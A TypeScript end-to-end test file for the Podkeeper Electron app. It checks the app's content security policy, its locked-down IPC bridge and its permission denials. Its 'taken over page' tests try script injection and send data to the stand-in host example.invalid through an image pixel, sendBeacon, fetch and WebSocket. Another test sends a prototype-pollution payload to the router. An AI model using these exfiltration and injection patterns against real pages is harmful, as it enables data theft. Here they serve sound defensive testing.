import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type App, assertBuilt, launch } from '../support/app.ts';
import { answerIn } from '../support/calls.ts';
import type { StandInEngine } from '../support/engineStandIn.ts';
import { startWatcher } from '../support/watcher.ts';

// Every step starts or ends several processes; on a busy machine that takes its time.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

let app: App;
beforeAll(async () => {
  assertBuilt();
  app = await launch();
  await app.page.waitForFunction(() => document.querySelector('button') !== null);
});
afterAll(() => app?.close());

/** Only the stand-in can be asked these; on Electron itself the same is shown by what the page gets. */
const standIn = () => (app.electron === 'stand-in' ? (app as App & StandInEngine) : undefined);

describe('the running window', () => {
  it('shows our page and reaches the core', async () => {
    expect(await app.page.title()).toMatch(/Podkeeper$/);
    expect(await answerIn(app.page, 'vault.status', {})).toMatchObject({ ok: true, value: { state: 'none' } });
    expect(await answerIn(app.page, 'no.such.call', {})).toMatchObject({ ok: false, code: 'call.unknown' });
  });

  it('keeps to its own policy while loading, and gets a new port for a new load', async () => {
    const complaints: string[] = [];
    app.page.on('console', (message) => {
      if (message.type() === 'error') complaints.push(message.text());
    });
    app.page.on('pageerror', (error) => complaints.push(error.message));
    await app.page.reload();
    await app.page.waitForFunction(() => document.querySelector('button') !== null);
    expect(await answerIn(app.page, 'vault.status', {})).toMatchObject({ ok: true });
    expect(complaints).toEqual([]);
    app.page.removeAllListeners('console');
  });

  it('carries hostile input to the router as it is, which refuses it', async () => {
    const codes = await app.page.evaluate(async () => {
      const { podkeeper } = window as unknown as {
        podkeeper: { call(name: unknown, input: unknown): Promise<{ code?: string }> };
      };
      const self: Record<string, unknown> = {};
      self.self = self;
      const inputs: unknown[] = [
        undefined,
        null,
        Number.NaN,
        12n,
        new Map([['a', 1]]),
        new Uint8Array(9),
        self,
        new Date(0),
      ];
      inputs.push({ $: ['number', '1'] }, JSON.parse('{"__proto__":{"x":1}}'), { passphrase: -0 }, [[[]]]);
      const answers = inputs.map((input) => podkeeper.call('vault.unlock', input));
      return (await Promise.all(answers)).map(({ code }) => code);
    });
    for (const code of codes) expect(['input.invalid', 'input.tooLarge']).toContain(code);
    expect(await answerIn(app.page, '__proto__', {})).toMatchObject({ code: 'call.unknown' });
  });

  it('has no Node, no Electron and a bridge that cannot be changed', async () => {
    const seen = await app.page.evaluate(() => {
      const bridge = (window as unknown as { podkeeper: Record<string, unknown> }).podkeeper;
      const before = bridge.call;
      try {
        bridge.call = () => 'changed';
      } catch {
        // Strict mode says so.
      }
      try {
        (window as unknown as Record<string, unknown>).podkeeper = {};
      } catch {
        // Strict mode says so.
      }
      const names = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'];
      return {
        found: names.filter((name) => name in window),
        keys: Object.keys(bridge).sort(),
        same: (window as unknown as { podkeeper: Record<string, unknown> }).podkeeper.call === before,
      };
    });
    expect(seen).toEqual({ found: [], keys: ['call', 'on'], same: true });
  });

  it('is denied every permission', async () => {
    const states = await app.page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'];
      const asked = names.map((name) => navigator.permissions.query({ name: name as PermissionName }));
      return (await Promise.all(asked)).map(({ state }) => state);
    });
    expect(states).not.toContain('granted');
    expect(await app.page.evaluate(() => Notification.requestPermission())).not.toBe('granted');
  });
});

describe('a page that was taken over', () => {
  it('can neither run text as code nor speak to anybody', async () => {
    const results = await app.page.evaluate(async () => {
      const violated: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
      const image = new Image();
      image.src = 'https://example.invalid/pixel.png?name=Rahima';
      const frame = document.createElement('iframe');
      frame.src = 'https://example.invalid/';
      document.body.append(frame);
      navigator.sendBeacon('https://example.invalid/', 'Rahima');
      const attempts = {
        fetch: await fetch('https://example.invalid/').then(
          () => 'sent',
          () => 'refused',
        ),
        own: await fetch('/index.html').then(
          () => 'sent',
          () => 'refused',
        ),
        socket: await new Promise((resolve) => {
          try {
            const socket = new WebSocket('wss://example.invalid/');
            socket.onerror = () => resolve('refused');
            socket.onopen = () => resolve('sent');
          } catch {
            resolve('refused');
          }
        }),
        ran: 'ran' in window,
      };
      await new Promise((resolve) => setTimeout(resolve, 300));
      frame.remove();
      return { attempts, violated: [...new Set(violated)].sort() };
    });
    expect(results.attempts).toMatchObject({ fetch: 'refused', own: 'refused', socket: 'refused', ran: false });
    expect(results.violated).toEqual(
      expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'script-src-elem']),
    );
    expect(app.requests()).toEqual([]);
  });

  it('cannot leave, open a window or bring in another page', async () => {
    const before = app.page.url();
    const opened = await app.page.evaluate(() => {
      const inner = document.createElement('iframe');
      document.body.append(inner);
      const link = document.createElement('a');
      Object.assign(link, { href: 'https://example.invalid/?link', target: '_blank' });
      document.body.append(link);
      link.click();
      const others = [
        window.open('https://example.invalid/?name=Rahima'),
        inner.contentWindow?.open('https://example.invalid/'),
      ];
      location.href = 'https://example.invalid/?name=Rahima';
      return others.filter((other) => other).length;
    });
    expect(opened).toBe(0);
    expect(app.page.context().pages()).toHaveLength(1);
    await app.page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
    expect(app.page.url()).toBe(before);
    expect(await answerIn(app.page, 'vault.status', {})).toMatchObject({ ok: true });
    expect(app.requests()).toEqual([]);
  });

  it('gets no second port, and its subframes get none at all', async () => {
    const tried = await app.page.evaluate(async () => {
      const frames = ['about:blank', 'srcdoc', '/index.html'].map((source) => {
        const frame = document.createElement('iframe');
        if (source === 'srcdoc') frame.srcdoc = '<p>x</p>';
        else frame.src = source;
        document.body.append(frame);
        return frame;
      });
      await new Promise((resolve) => setTimeout(resolve, 500));
      const results = [window, ...frames.map((frame) => frame.contentWindow)].map((one) => {
        try {
          const host = (one as unknown as { podkeeperHost?: (text: string) => void }).podkeeperHost;
          const bridge = one === window ? false : one !== null && 'podkeeper' in one;
          host?.(JSON.stringify({ type: 'ipc', channel: 'podkeeper.port', args: '[]' }));
          return { asked: host !== undefined, bridge };
        } catch {
          return { asked: false, bridge: false };
        }
      });
      for (const frame of frames) frame.remove();
      return results;
    });
    expect(tried.map(({ bridge }) => bridge)).not.toContain(true);
    const engine = standIn();
    if (engine) {
      expect(tried.filter(({ asked }) => asked).length).toBeGreaterThanOrEqual(3);
      expect(await engine.ports()).toEqual([2]);
    }
    expect(await answerIn(app.page, 'vault.status', {})).toMatchObject({ ok: true });
  });
});

describe('the watcher', () => {
  it('sees a request that does leave', async () => {
    const watcher = await startWatcher();
    const { hostname, port } = new URL(watcher.address);
    await new Promise<void>((resolve) => {
      const socket = connect(Number(port), hostname, () =>
        socket.write('CONNECT example.invalid:443 HTTP/1.1\r\n\r\n'),
      );
      socket.once('data', () => socket.destroy());
      socket.once('close', () => resolve());
    });
    expect(watcher.seen()).toEqual(['CONNECT example.invalid:443 HTTP/1.1']);
    await watcher.close();
  });
});
